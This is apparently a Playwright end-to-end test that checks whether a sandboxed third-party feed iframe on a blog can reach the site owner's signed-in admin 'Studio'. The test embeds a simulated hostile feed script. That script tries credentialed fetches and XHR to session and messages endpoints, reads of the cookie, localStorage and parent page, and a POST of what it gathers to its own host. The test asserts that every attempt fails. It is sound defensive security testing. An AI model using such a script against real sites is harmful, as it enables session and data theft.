// What a third-party script can reach does not depend on the viewport: desktop project only.
import { failedResourceLoad, gotoHydrated } from "../fixtures.ts";
import { feedFrame, feedScriptUrl, isolateFromInternet } from "../newsletter-hosts.ts";
import { signIn } from "./studio-screen-checks.ts";
import { expect, test } from "./studio-server.ts";

const feedOrigin = new URL(feedScriptUrl).origin;
const reportUrl = `${feedOrigin}/report`;

/**
 * A feed script turned hostile, as a compromised platform's could be: while the owner is signed
 * in to the Studio in this browser at `site`, it tries every way at the Studio's session and
 * inbox it has, then reports what it got to its own host. It still draws one post, so the page
 * shows it.
 */
const hostileFeedScript = (site: string) => `
(async () => {
  const site = ${JSON.stringify(site)};
  const attempt = async (name, work) => {
    try { return { name, got: String(await work()).slice(0, 500) }; }
    catch (error) { return { name, failed: String(error && error.name) }; }
  };
  const read = (url) => fetch(url, { credentials: "include" }).then((r) => r.status + " " + r.statusText);
  const results = [
    await attempt("session, relative", () => read("/api/studio/session")),
    await attempt("session, at the site", () => read(site + "/api/studio/session")),
    await attempt("messages", () => read(site + "/api/studio/messages")),
    await attempt("cookie", () => document.cookie),
    await attempt("local storage", () => localStorage.length),
    await attempt("the page around it", () => window.parent.document.title),
    await attempt("the page's session probe", () => window.parent.fetch("/api/studio/session")),
    await attempt("xhr", () => new Promise((resolve, reject) => {
      const xhr = new XMLHttpRequest();
      xhr.open("GET", site + "/api/studio/session");
      xhr.withCredentials = true;
      xhr.onload = () => resolve(xhr.status + " " + xhr.responseText);
      xhr.onerror = () => reject(new Error("xhr failed"));
      xhr.send();
    })),
  ];
  await fetch("${reportUrl}", { method: "POST", body: JSON.stringify({ origin: window.origin, results }) });
  const post = document.createElement("a");
  post.className = "feed-post";
  post.href = "https://noor.substack.com/p/post-1";
  post.textContent = "A post";
  document.getElementById("substack-feed-embed").append(post);
})();
`;

interface Attempt {
  name: string;
  got?: string;
  failed?: string;
}

test("a hostile feed script on Blog, with the owner signed in, gets nothing of the Studio", async ({
  page,
  context,
  studio,
  pageErrors,
}) => {
  // The browser reports the requests the frame's policy refused.
  pageErrors.allow(failedResourceLoad);
  pageErrors.allow(/Content Security Policy|Refused to connect|blocked/i);
  await isolateFromInternet(context);
  await studio.setPassword();
  await signIn(page);
  // The owner is signed in: the Studio's session probe answers with a CSRF token here.
  const probe = await page.evaluate(() =>
    fetch("/api/studio/session").then((answer) => answer.json()),
  );
  expect(probe).toMatchObject({ signedIn: true, csrfToken: expect.any(String) });

  let report: { origin: string; results: Attempt[] } | undefined;
  // The browser refuses the frame's requests before they leave it: none gets an answer.
  const answeredInFrame: string[] = [];
  page.on("response", (response) => {
    if (response.url().includes("/api/studio/") && response.frame() !== page.mainFrame()) {
      answeredInFrame.push(response.url());
    }
  });
  await page.route(`${feedOrigin}/**`, async (route) => {
    const request = route.request();
    if (request.url() === reportUrl) {
      report = request.postDataJSON();
      return route.fulfill({ status: 204 });
    }
    return route.fulfill({ contentType: "text/javascript", body: hostileFeedScript(studio.url) });
  });
  await gotoHydrated(page, "/blog");
  await expect(feedFrame(page).locator(".feed-post")).toHaveCount(1);
  await expect.poll(() => report).toBeDefined();

  expect(report?.origin).toBe("null");
  const results = report?.results ?? [];
  expect(results.map((attempt) => attempt.name)).toEqual([
    "session, relative",
    "session, at the site",
    "messages",
    "cookie",
    "local storage",
    "the page around it",
    "the page's session probe",
    "xhr",
  ]);
  for (const attempt of results) {
    expect(attempt, attempt.name).toEqual({ name: attempt.name, failed: expect.any(String) });
  }
  expect(JSON.stringify(report)).not.toContain(probe.csrfToken);
  // Not one request of the frame's reached the Studio's API.
  expect(answeredInFrame).toEqual([]);
  // And the owner is still signed in, the Studio untouched.
  await gotoHydrated(page, "/studio/messages");
  await expect(page.getByRole("heading", { name: "Messages" })).toBeVisible();
});
